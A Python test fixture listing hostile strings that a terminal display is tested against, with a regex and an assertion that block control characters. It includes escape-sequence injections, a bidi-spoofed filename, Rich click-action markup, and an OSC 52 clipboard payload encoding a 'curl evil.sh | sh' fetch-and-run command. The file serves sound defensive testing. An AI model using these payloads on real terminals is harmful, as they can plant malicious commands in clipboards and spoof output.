"""A corpus of hostile strings: what a person, a script or an alert could send to a war room.

Every printer is tested against all of it; ``SAFE`` says what may never reach a terminal.
"""

from __future__ import annotations

import re

HOSTILE: dict[str, str] = {
    "osc-title": "note \x1b]0;pwned\x07 after",
    "osc-title-st": "note \x1b]2;pwned\x1b\\ after",
    "clear-screen": "before \x1b[2J\x1b[H after",
    "csi-colour": "\x1b[31mred\x1b[0m",
    "osc52-clipboard": "copy \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done",
    "osc8-hyperlink": "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "c1-csi": "c1 \x9b2J csi",
    "c1-osc": "c1 \x9d0;pwned\x9c osc",
    "carriage-return": "innocent\rEVIL",
    "backspace": "rm -rf /tmp/x\x08\x08\x08\x08\x08safe",
    "bell": "ding\x07dong",
    "nul": "nul\x00byte",
    "del": "del\x7fchar",
    "bidi-override": "file\u202egnp.exe",
    "bidi-isolate": "a\u2066b\u2069c",
    "zero-width": "pass\u200bword",
    "soft-hyphen-and-tags": "ok\u00ad\U000e0069\U000e0067\U000e006e\u2062end",
    "rich-markup": "[bold red]loud[/] [link=http://evil.example]x[/link]",
    "click-action": "[@click=app.quit]quit[/]",
    "click-action-space": "[ @click=screen.send_status('resolved')]Check dashboards[/]",
    "click-screenshot": "[ @click=app.screenshot('x.svg','/tmp')]shot[/]",
    "unbalanced": "x[ @click=\"]",
    "variable": "[$error]var[/] [$accent on $error]v[/]",
    "closing-tag": "[/] [/bold] stray",
    "backslash": "\\[not markup] \\\\[b]",
    "emoji-and-wide": "🔥 火事 ﷽",
    "long-line": "x" * 300,
}

# Bytes that must never reach a terminal from untrusted text (escape, C1, CR, BS, BEL, bidi).
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b\u200e\u200f\u202a-\u202e\u2061-\u2069\U000e0000-\U000e007f]"
)


def assert_safe(shown: str, where: str = "") -> None:
    """Fail if ``shown`` (what reached a screen or stdout) carries a terminal control."""
    found = UNSAFE.search(shown)
    assert found is None, f"{where}: {found.group()!r} reached the output at {found.start()}: {shown!r}"
